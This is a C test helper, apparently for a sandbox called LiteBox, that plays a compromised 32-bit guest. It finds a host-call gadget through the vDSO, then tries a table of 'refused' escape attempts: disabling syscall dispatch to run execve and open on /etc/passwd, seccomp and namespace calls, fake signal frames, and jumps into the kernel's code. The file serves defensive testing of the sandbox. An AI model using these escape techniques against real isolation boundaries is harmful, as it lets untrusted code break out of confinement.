//@ helper
// A 32-bit program that has taken over the kernel's code: it goes into 64-bit code by a far call and jumps to the
// host-call gadget from there. `compromised_compat MODE NUMBER`: MODE is 64, x32 or i386. `compromised_compat attack
// NAME`.
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define AT_LITEBOX 0x6c626f78

// What 64-bit code is called with: a call's number and arguments, where to, and its result; r15, FS and GS.
static struct { uint64_t number, a, b, c, d, e, f, to, result, r15, fs, gs; } in;

asm(".text\n"
    ".code64\n"
    // Calls `to` as the gadget is called.
    "gate_call: mov %ebx, %ebx\n push %rbp\n"
    "mov (%rbx), %rax\n mov 8(%rbx), %rdi\n mov 16(%rbx), %rsi\n mov 24(%rbx), %rdx\n"
    "mov 32(%rbx), %r10\n mov 40(%rbx), %r8\n mov 48(%rbx), %r9\n"
    "call *56(%rbx)\n mov %rax, 64(%rbx)\n"
    "pop %rbp\n lretl\n"
    // Exchanges r15 with the word.
    "gate_r15: mov %ebx, %ebx\n xchg %r15, 72(%rbx)\n lretl\n"
    "gate_bases: mov %ebx, %ebx\n mov 80(%rbx), %rax\n wrfsbase %rax\n mov 88(%rbx), %rax\n wrgsbase %rax\n lretl\n"
    "gate_jump: mov %ebx, %ebx\n mov (%rbx), %rax\n mov 8(%rbx), %rdi\n jmp *56(%rbx)\n"
    ".code32\n"
    ".globl to_call, to_r15, to_bases, to_jump\n"
    "to_call: push %ebx\n mov $in, %ebx\n lcall $0x33, $gate_call\n pop %ebx\n ret\n"
    "to_r15: push %ebx\n mov $in, %ebx\n lcall $0x33, $gate_r15\n pop %ebx\n ret\n"
    "to_bases: push %ebx\n mov $in, %ebx\n lcall $0x33, $gate_bases\n pop %ebx\n ret\n"
    "to_jump: push %ebx\n mov $in, %ebx\n lcall $0x33, $gate_jump\n pop %ebx\n ret\n");
extern void to_call(void), to_r15(void), to_bases(void), to_jump(void);
// 64-bit code keeps none of these.
#define CALL(gate) asm volatile("call " #gate ::: "eax", "ecx", "edx", "esi", "edi", "memory", "cc")

// The thread's block is in r15, and the vDSO jumps to where a word of it says, in the kernel's code; of the gadget,
// which lies there too, the auxiliary vector has the lower half.
static uint64_t gadget(void) {
    const uint8_t *vdso = (void *)getauxval(AT_SYSINFO_EHDR);
    uint32_t at = 0;
    for (int i = 0; i < 4090 && !at; i++)
        if (vdso[i] == 0x41 && vdso[i + 1] == 0xff && (vdso[i + 2] == 0xa7 || vdso[i + 2] == 0x67)) // jmp *at(%r15)
            at = vdso[i + 2] == 0x67 ? vdso[i + 3] : *(uint32_t *)(vdso + i + 3);
    in.r15 = 0;
    CALL(to_r15);
    uint64_t block = in.r15;
    CALL(to_r15);
    if (!at || !block)
        return 0;
    // Read by 64-bit code: `mov (%rdi), %rax; ret`.
    static uint8_t *reader;
    reader = mmap(0, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(reader, "\x48\x8b\x07\xc3", 4);
    in.to = (uintptr_t)reader, in.a = block + at;
    CALL(to_call);
    uint64_t entry = in.result, found = (entry & ~0xffffffffull) | (uint32_t)getauxval(AT_LITEBOX);
    if (found + 0x80000000 < entry)
        found += 1ull << 32;
    if (found > entry + 0x80000000)
        found -= 1ull << 32;
    return found;
}

static uint64_t the_gadget;

static long host_call(uint64_t number, uint64_t a, uint64_t b, uint64_t c) {
    in.number = number, in.a = a, in.b = b, in.c = c, in.d = in.e = in.f = 0, in.to = the_gadget;
    CALL(to_call);
    return in.result;
}

// No call is caught any more: the next one is the host's to judge.
static void uncaught(void) {
    host_call(157, 59, 0, 0); // PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_OFF
}

static long int80(long number, long a, long b, long c) {
    long result;
    asm volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory");
    return result;
}

static char path[4096] = "/etc/passwd";

static long numbered(const char *mode, long number) {
    if (!strcmp(mode, "i386")) {
        uncaught();
        return int80(number, (long)path, 0, 0);
    }
    return host_call(number | (strcmp(mode, "x32") ? 0 : 0x40000000), (uintptr_t)path, (uintptr_t)path, 0);
}

// Stands for the address of the path.
#define PATH (1ull << 63)

static uint64_t word(uint64_t word) {
    return word == PATH ? (uintptr_t)path : word;
}

static const struct { const char *name; uint64_t number, a, b, c; int off; } refused[] = {
    {"clone-newuser", 56, 0x10000000 | SIGCHLD},
    {"prctl-dumpable", 157, 4, 1, 0},
    {"prctl-seccomp", 157, 22, 2, 0},
    {"set-thread-area", 205, 0, 0, 0},
    {"modify-ldt", 154, 1, PATH, 16},
    {"execve-uncaught", 59, PATH, 0, 0, 1},
    {"open-uncaught", 2, PATH, 0, 0, 1},
};

static long attack(const char *name) {
    for (unsigned i = 0; i < sizeof refused / sizeof *refused; i++)
        if (!strcmp(name, refused[i].name)) {
            if (refused[i].off)
                uncaught();
            return host_call(refused[i].number, word(refused[i].a), word(refused[i].b), refused[i].c);
        }
    if (!strcmp(name, "i386-set-thread-area")) { // as the start makes it, and nobody after it
        uncaught();
        return int80(SYS_set_thread_area, (long)path, 0, 0);
    }
    if (!strcmp(name, "i386-modify-ldt")) {
        uncaught();
        return int80(SYS_modify_ldt, 1, (long)path, 16);
    }
    if (!strcmp(name, "far-uncaught")) { // by the instruction itself, where the vDSO's own jump leads
        uncaught();
        return syscall(SYS_getpid);
    }
    if (!strncmp(name, "r15-", 4)) { // whose block is it? Then a call by the vDSO.
        static uint64_t block[512];
        block[0] = (uintptr_t)block; // as blocks begin
        for (int i = 1; i < 512; i++)
            block[i] = !strcmp(name, "r15-own-code") ? (uintptr_t)to_call : 0x4141414141414141;
        in.r15 = !strncmp(name, "r15-own", 7) ? (uintptr_t)block : !strcmp(name, "r15-high") ? 0xffffffff81000000 : the_gadget & -4096;
        CALL(to_r15);
        return syscall(SYS_getppid);
    }
    if (!strncmp(name, "bases-", 6)) { // FS and GS lead to the kernel's memory, or nowhere
        in.fs = in.gs = !strcmp(name, "bases-kernel") ? the_gadget & -4096 : !strcmp(name, "bases-high") ? 0xffffffff81000000 : 0x8000000000000000;
        CALL(to_bases);
        return int80(SYS_getppid, 0, 0, 0);
    }
    if (!strcmp(name, "fake-frame")) { // rt_sigreturn of the host, with a frame of nothing
        in.number = 15, in.to = the_gadget;
        CALL(to_jump);
        return 0;
    }
    if (!strcmp(name, "into-the-kernel")) { // in the middle of its code, again and again
        for (int i = 0; i < 64; i++)
            if (fork() == 0) {
                in.to = the_gadget + (i * 257 - 8192), in.number = i, in.a = the_gadget;
                CALL(to_jump);
                _exit(0);
            }
        return 0;
    }
    if (!strcmp(name, "patched-gate")) { // at each byte of the code that patched calls lead to
        for (int i = 0; i < 16; i++)
            int80(SYS_getppid, 0, 0, 0);
        pid_t children[16];
        for (int i = 0; i < 512; i++) {
            children[i % 16] = fork();
            if (children[i % 16] == 0) {
                asm volatile("push %0\n push %0\n push $0x33\n push %1\n mov %0, %%ecx\n mov %0, %%edx\n lret"
                             ::"r"(i % 2 ? (long)path : i * 0x01010101), "r"(0xff000000 + i / 2), "a"(SYS_getppid) : "memory");
                _exit(0);
            }
            if (i % 16 < 15) continue;
            // Some loop, or wait for what does not come.
            usleep(20000);
            for (int k = 0; k < 16; k++)
                kill(children[k], SIGKILL);
            while (wait(NULL) > 0)
                ;
        }
        return int80(SYS_getppid, 0, 0, 0) == getppid();
    }
    if (!strcmp(name, "no-data")) { // nothing in the segments of data, and a fault
        asm volatile("mov %0, %%es\n mov %0, %%ds\n movl $1, path" ::"r"(0) : "memory");
        return 0;
    }
    if (!strcmp(name, "no-stack")) {
        asm volatile("mov $8, %%esp\n int $0x80" ::"a"(SYS_getpid) : "memory");
        return 0;
    }
    if (!strcmp(name, "trap-flag")) {
        asm volatile("pushf\n orl $0x100, (%%esp)\n popf\n call *%%gs:0x10" ::"a"(SYS_getpid) : "memory", "cc");
        return 0;
    }
    printf("no attack %s\n", name);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    the_gadget = gadget();
    if (!the_gadget) {
        puts("no gadget");
        return 3;
    }
    puts("ready");
    fflush(stdout);
    long result = strcmp(argv[1], "attack") ? numbered(argv[1], atol(argv[2])) : attack(argv[2]);
    printf("result %ld\n", result);
    return 0;
}
